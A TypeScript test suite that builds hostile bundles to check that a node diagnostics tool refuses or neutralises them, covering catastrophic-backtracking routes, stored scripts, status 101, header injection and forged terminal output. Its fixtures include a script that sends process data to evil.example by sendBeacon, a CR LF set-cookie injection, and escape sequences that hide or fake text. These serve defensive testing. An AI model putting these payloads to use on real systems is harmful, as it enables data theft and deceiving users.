/**
 * A bundle is data, never code. Hostile bundles made here with tar-stream + gzip, as
 * the writer makes them, each served by `nodetruth serve --bundle` in its own process
 * (src/cli.ts through tsx) and asked over real HTTP:
 *
 * - its openapi.json holds paths of 40 `{a}` groups: it is a stored answer, never a
 *   pattern, so a 27-byte request for no route answers 404 and a realistic
 *   `/v1/containers/<64 hex>/logs?tailLines=…` that was not captured answers 409;
 * - a stored text/html body with a script, a stored `application/javascript`, a stored
 *   status 101 and a stored /v1/triage that is not JSON are never replayed: 502 with
 *   the reason, and the rest of the bundle is served;
 * - a stored answer under a URL that is no route of the agent is a 404;
 * - every answer carries nosniff and `default-src 'none'`; a manifest's CR LF never
 *   reaches a header.
 *
 * A request that gets no answer within 20 s fails (the server is another process, so
 * a blocked event loop there cannot stop the clock here); no duration is asserted.
 * `nodetruth triage --bundle` over a triage that is not JSON or not a report exits 3
 * with one line of reason and no stack trace; a stored text report's control
 * sequences are shown, not obeyed.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import t, { type Test } from 'tap';
import { pack, type Header } from 'tar-stream';
import { FORMAT_VERSION, routeEntryName, type Manifest, type Section } from '../../src/bundle/format.js';
import { REPO, startAgentProcess } from '../helpers/agent-process.js';

const dir = mkdtempSync(path.join(tmpdir(), 'nodetruth-serve-hostile-'));
t.teardown(() => rmSync(dir, { recursive: true, force: true }));

interface Stored {
  url: string;
  status: number;
  contentType: string;
  body: string;
}

/** A bundle holding `answers` as route sections, written as the writer writes one (answers first, manifest last). */
async function bundleOf(name: string, answers: Stored[], node = 'hostile'): Promise<string> {
  const file = path.join(dir, `${name}.tar.gz`);
  const p = pack();
  const done = pipeline(p, createGzip(), createWriteStream(file));
  const sections: Section[] = [];
  const entry = (header: Partial<Header> & { name: string }, body: Buffer) =>
    new Promise<void>((resolve, reject) => p.entry({ type: 'file', ...header, size: body.length } as Header, body, (e) => (e ? reject(e) : resolve())));
  let n = 0;
  for (const a of answers) {
    const body = Buffer.from(a.body);
    const entryName = routeEntryName(a.url, a.contentType, n++);
    await entry({ name: entryName }, body);
    sections.push({ kind: 'route', name: a.url, source: { route: a.url }, path: entryName, status: a.status, contentType: a.contentType, time: '2026-12-01T00:00:00.000Z', ms: 1, bytes: body.length, redacted: 0 });
  }
  const manifest: Manifest = {
    kind: 'nodetruth-bundle',
    formatVersion: FORMAT_VERSION,
    version: '0.1.0',
    node,
    capturedAt: '2026-12-01T00:00:00.000Z',
    finishedAt: '2026-12-01T00:00:01.000Z',
    argv: ['nodetruth', 'capture'],
    hostRoot: '/',
    since: '1h',
    maxBytes: 64 * 2 ** 20,
    bytes: sections.reduce((s, x) => s + x.bytes, 0),
    trimOrder: [],
    trimmed: [],
    redaction: { marker: '<redacted>', total: 0, byKind: {}, policy: '' },
    sections,
  };
  await entry({ name: 'manifest.json' }, Buffer.from(JSON.stringify(manifest)));
  p.finalize();
  await done;
  return file;
}

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  rawHeaders: string[];
  body: string;
}

/** GET over real HTTP; fails when no answer comes within 20 s (a hung server). */
function get(base: string, urlPath: string, headers: Record<string, string> = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(`${base}${urlPath}`, { headers, signal: AbortSignal.timeout(20_000) }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, rawHeaders: res.rawHeaders, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    // a 1xx would be an informational answer to Node's client: seen here, it is a failure
    req.on('information', (info) => reject(new Error(`an informational ${info.statusCode} was sent`)));
    req.on('upgrade', (res) => reject(new Error(`upgraded with ${res.statusCode}`)));
    req.on('error', reject);
    req.end();
  });
}

/** A body as JSON, or {} (an assertion on it then fails instead of throwing). */
const json = (body: string): unknown => {
  try {
    return JSON.parse(body);
  } catch {
    return {};
  }
};

const hex = 'ab12cd34'.repeat(8);
const groups40 = '{a}'.repeat(40);
const SCRIPT = '<script>fetch("/v1/processes").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script>';

/** `serve --bundle` over `answers` in its own process; `ask` keeps every answer for the header checks. */
async function serving(t: Test, name: string, answers: Stored[], env: NodeJS.ProcessEnv = {}) {
  const agent = await startAgentProcess(['--bundle', await bundleOf(name, answers)], { env });
  t.teardown(() => agent.stop('SIGKILL'));
  const asked: [string, Answer][] = [];
  const ask = async (p: string, h?: Record<string, string>) => {
    const a = await get(agent.url, p, h);
    asked.push([p, a]);
    return a;
  };
  const inert = () => {
    for (const [p, a] of asked) {
      t.equal(a.headers['x-content-type-options'], 'nosniff', `${p} ${a.status}: nosniff`);
      t.equal(a.headers['content-security-policy'], "default-src 'none'", `${p} ${a.status}: CSP`);
    }
  };
  return { agent, ask, inert };
}

t.test('serve --bundle: the route document a bundle holds is data, never patterns', async (t) => {
  const { ask, inert } = await serving(t, 'hostile-routes', [
    // 40 groups in one path: a replay that made each a regex group and matched requests against them would backtrack
    {
      url: '/openapi.json',
      status: 200,
      contentType: 'application/json; charset=utf-8',
      body: JSON.stringify({ openapi: '3.0.3', info: { title: 'x', version: '1' }, paths: { [`/${groups40}`]: {}, [`/v1/${groups40}`]: {}, [`/v1/containers/${groups40}/logs`]: {} } }),
    },
    { url: `/v1/containers/${hex}/logs?tailLines=50`, status: 200, contentType: 'text/plain; charset=utf-8', body: 'line one\nline two\n' },
    { url: '/evil', status: 200, contentType: 'application/json; charset=utf-8', body: '{"served":"from a URL the agent has no route for"}' },
  ]);

  // 27 bytes for no route of the agent's
  const req27 = `/${'a'.repeat(26)}`;
  t.equal(req27.length, 27);
  const a27 = await ask(req27);
  t.equal(a27.status, 404, 'a 27-byte request for no route: 404');
  t.match(a27.headers['content-type'], /^application\/problem\+json/);
  // each byte more doubles what a pattern of 40 groups tries before it fails: 34 bytes hold such a replay for minutes
  t.equal((await ask(`/${'a'.repeat(33)}`)).status, 404, 'a 34-byte request for no route: 404');
  t.equal((await ask(`/v1/${'a'.repeat(23)}`)).status, 404, 'under /v1 too');

  // realistic: a captured container's log tail; other parameters were not captured
  const logs = await ask(`/v1/containers/${hex}/logs?tailLines=50`);
  t.equal(logs.status, 200);
  t.equal(logs.body, 'line one\nline two\n', 'the stored log tail, byte for byte');
  t.equal(logs.headers['content-type'], 'text/plain; charset=utf-8');
  const pre = await ask(`/v1/containers/${hex.slice(0, 12)}/logs?tailLines=50`);
  t.equal(pre.status, 200, 'an id prefix resolves against the captured ids');
  t.equal(pre.body, logs.body);
  const other = await ask(`/v1/containers/${hex}/logs?tailLines=51`);
  t.equal(other.status, 409, 'a parameter not captured: 409, not a hang');
  t.match(json(other.body), { title: 'Bundle is not the live node' });
  t.equal((await ask(`/v1/containers/${'f'.repeat(12)}/logs?tailLines=50`)).status, 404, 'an unknown prefix: 404');

  // the stored route document is served as what it is: data
  const spec = await ask('/openapi.json');
  t.equal(spec.status, 200);
  t.equal(spec.headers['content-type'], 'application/json; charset=utf-8');

  // a URL that is no route of the agent's, whatever the bundle stores under it
  const evil = await ask('/evil');
  t.equal(evil.status, 404);
  t.notOk(evil.body.includes('served'), 'the stored body is not served');
  inert();
});

t.test('serve --bundle is the agent\'s own app: an attach session\'s secret guards it as it guards the live agent', async (t) => {
  const token = 'S'.repeat(43);
  const { ask, inert } = await serving(t, 'session', [{ url: '/v1/images', status: 200, contentType: 'application/json; charset=utf-8', body: '{"images":[]}' }], { NODETRUTH_SESSION_TOKEN: token });
  const without = await ask('/v1/images');
  t.equal(without.status, 401, 'a stored answer without the session header: 401');
  t.notOk(without.body.includes('{"images":[]}'), 'and not the stored body');
  t.equal((await ask('/v1/images', { 'x-nodetruth-session': 'x'.repeat(43) })).status, 401, 'a wrong token: 401');
  const right = await ask('/v1/images', { 'x-nodetruth-session': token });
  t.equal(right.status, 200);
  t.equal(right.body, '{"images":[]}');
  t.equal((await ask('/healthz')).status, 200, 'the readiness probe needs none');
  inert();
});

t.test('serve --bundle: active content and statuses the agent never gives are refused with the reason', async (t) => {
  const { agent, ask, inert } = await serving(t, 'hostile-content', [
    { url: '/v1/images', status: 200, contentType: 'application/json; charset=utf-8', body: '{"images":[]}' },
    { url: '/v1/pods', status: 200, contentType: 'text/html; charset=utf-8', body: `<html><body>${SCRIPT}</body></html>` },
    { url: '/v1/cgroups', status: 200, contentType: 'application/javascript', body: 'alert(1)' },
    { url: '/v1/node', status: 101, contentType: 'application/json; charset=utf-8', body: '{}' },
    { url: '/v1/triage', status: 200, contentType: 'application/json; charset=utf-8', body: 'all clear <not json' },
  ]);
  t.equal((await ask('/v1/images')).body, '{"images":[]}', 'a well-formed stored answer is served');

  const html = await ask('/v1/pods');
  t.equal(html.status, 502, 'a stored text/html answer is refused');
  t.match(html.headers['content-type'], /^application\/problem\+json/, 'never served as text/html');
  t.notOk(html.body.includes('<script'), 'the script is in no answer');
  t.match(json(html.body), { title: 'Bundle answer refused', detail: /content type "text\/html; charset=utf-8" is not one the agent answers with/ });
  const js = await ask('/v1/cgroups');
  t.equal(js.status, 502);
  t.notOk(js.body.includes('alert(1)'));
  const h101 = await ask('/v1/node');
  t.not(h101.status, 101, 'a stored 101 is never sent');
  t.equal(h101.status, 502);
  t.match(json(h101.body), { detail: /stored status 101 is not one the agent answers with/ });
  const triage = await ask('/v1/triage');
  t.equal(triage.status, 502, 'a stored triage that is not JSON is refused');
  t.match(json(triage.body), { detail: /not JSON/ });

  // this server's own answers, the problems and the Host check's refusal: inert too
  const health = await ask('/healthz');
  t.equal(health.status, 200);
  t.match(json(health.body), { bundle: { routes: 1, refused: { count: 4 } } });
  t.equal((await ask('/readyz?format=text')).status, 200);
  t.equal((await ask('/v1/bundle')).status, 409);
  t.equal((await ask('/v1/nothing')).status, 404);
  t.equal((await ask('/v1/pods', { host: 'evil.example' })).status, 421, 'the Host check still stands in front');
  inert();

  // the HTTP parser's own refusal
  const sock = connect(Number(new URL(agent.url).port), '127.0.0.1');
  await once(sock, 'connect');
  sock.end('NOT HTTP AT ALL\r\n\r\n');
  const chunks: Buffer[] = [];
  for await (const c of sock) chunks.push(c as Buffer);
  const raw = Buffer.concat(chunks).toString('latin1');
  t.match(raw, /^HTTP\/1\.1 400 /);
  t.match(raw, /\r\nx-content-type-options: nosniff\r\n/i);
  t.match(raw, /\r\ncontent-security-policy: default-src 'none'\r\n/i);

  t.ok(
    agent.lines.some((l) => l.includes('stored answers refused') && l.includes('text/html')),
    'the refused answers are named in one warning at load',
  );
});

t.test('serve --bundle: stored text and JSON answers reach a terminal inert', async (t) => {
  const ESC = '\x1b';
  const { ask, inert } = await serving(t, 'hostile-escapes', [
    // a forged table: erase the line above, set the window title, hide what follows
    { url: '/v1/pods?format=text', status: 200, contentType: 'text/plain; charset=utf-8', body: `POD\n${ESC}[2K${ESC}[1A${ESC}]0;owned\x07${ESC}[8mhidden\u009b2J\n` },
    // JSON keeps C1 and the bidi overrides raw (JSON.stringify escapes only C0)
    { url: '/v1/images', status: 200, contentType: 'application/json; charset=utf-8', body: `{"images":[{"tag":"a\u009b2Jb\u202egnp.exe"}]}` },
  ]);
  const text = await ask('/v1/pods?format=text');
  t.equal(text.status, 200);
  t.notOk(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(text.body), 'no control character but the newline');
  t.match(text.body, /\\x1b\[2K\\x1b\[1A\\x1b\]0;owned\\x07\\x1b\[8mhidden\\u009b2J/, 'the sequences shown, escaped');
  const json = await ask('/v1/images');
  t.equal(json.status, 200);
  t.notOk(/[\x7f-\x9f\u202a-\u202e]/.test(json.body), 'no C1 or bidi control in the JSON bytes');
  t.same(JSON.parse(json.body), { images: [{ tag: 'a\u009b2Jb\u202egnp.exe' }] }, 'the same document');
  inert();
});

t.test('serve --bundle: a manifest with CR LF in its node name reaches no header', async (t) => {
  const file = await bundleOf('hostile-node', [{ url: '/v1/images', status: 200, contentType: 'application/json; charset=utf-8', body: '{"images":[]}' }], 'hostile\r\nset-cookie: session=stolen');
  const agent = await startAgentProcess(['--bundle', file]);
  t.teardown(() => agent.stop('SIGKILL'));
  for (const p of ['/healthz', '/v1/images', '/v1/nothing']) {
    const a = await get(agent.url, p);
    t.equal(a.status, p === '/v1/nothing' ? 404 : 200, p);
    t.equal(a.headers['set-cookie'], undefined, `${p}: no header from the manifest`);
    t.match(a.headers['x-nodetruth-bundle'], /^hostile\?\?set-cookie: session=stolen captured /, `${p}: the origin header is one printable line`);
    t.equal(a.headers['x-content-type-options'], 'nosniff');
  }
});

/** `nodetruth triage --bundle FILE` as a child process: exit code and stderr. */
async function triageCli(file: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, ['--import', 'tsx', path.join(REPO, 'src/cli.ts'), 'triage', '--bundle', file], { cwd: REPO, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, NO_COLOR: '1' } });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
  const killer = setTimeout(() => child.kill('SIGKILL'), 60_000);
  const [code] = (await once(child, 'exit')) as [number | null];
  clearTimeout(killer);
  return { code, stdout, stderr };
}

t.test('triage --bundle refuses a stored report that does not parse: one line, no stack trace', async (t) => {
  const cases: [string, string, RegExp][] = [
    ['not-json', '\x1b[2J\x1b[H all clear {', /not JSON/],
    ['not-a-report', '{"verdict":"ok","findings":"none"}', /not a triage report/],
  ];
  for (const [name, body, why] of cases) {
    const file = await bundleOf(`triage-${name}`, [
      { url: '/v1/triage', status: 200, contentType: 'application/json; charset=utf-8', body },
      { url: '/v1/triage?format=text', status: 200, contentType: 'text/plain; charset=utf-8', body: 'nodetruth triage of hostile: OK\n' },
    ]);
    const r = await triageCli(file);
    t.equal(r.code, 3, `${name}: exits 3 (triage could not run)`);
    const lines = r.stderr.split('\n').filter(Boolean);
    t.equal(lines.length, 1, `${name}: one line on stderr: ${r.stderr.slice(0, 400)}`);
    t.match(lines[0], /^nodetruth triage: --bundle: refused: the stored \/v1\/triage answer /);
    t.match(lines[0], why);
    t.notOk(/\n\s+at /.test(r.stderr) || /SyntaxError|ZodError/.test(r.stderr), `${name}: no stack trace`);
    t.equal(r.stdout, '', `${name}: nothing on stdout (not even the stored text)`);
    t.notOk(r.stderr.includes('\x1b'), `${name}: no control sequence of the bundle reaches the terminal`);
  }
});

t.test('triage --bundle: a stored text report with control sequences reaches the terminal inert', async (t) => {
  const report = { node: 'hostile', takenAt: '2026-12-01T00:00:00.000Z', windowMs: 1000, verdict: 'critical', counts: { critical: 1, warning: 0, info: 0 }, findings: [{ id: 'x', severity: 'critical', title: 'disk full', detail: 'd', hint: 'h', evidence: [] }], sources: {} };
  const file = await bundleOf('triage-escapes', [
    { url: '/v1/triage', status: 200, contentType: 'application/json; charset=utf-8', body: JSON.stringify(report) },
    // what the stored text says: clear the screen, home, "all clear", hide the rest
    { url: '/v1/triage?format=text', status: 200, contentType: 'text/plain; charset=utf-8', body: 'CRITICAL disk full\n\x1b[2J\x1b[Hall clear\x1b[8m\n\x9b2J\x1b]0;ok\x07\n' },
  ]);
  const r = await triageCli(file);
  t.equal(r.code, 2, 'the stored verdict decides the exit code');
  t.notOk(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(r.stdout), 'no control character but the newline reaches stdout');
  t.match(r.stdout, /\\x1b\[2J\\x1b\[Hall clear\\x1b\[8m/, 'the sequences are shown');
  t.match(r.stdout, /^CRITICAL disk full\n/, 'the stored text is otherwise as it was');
});
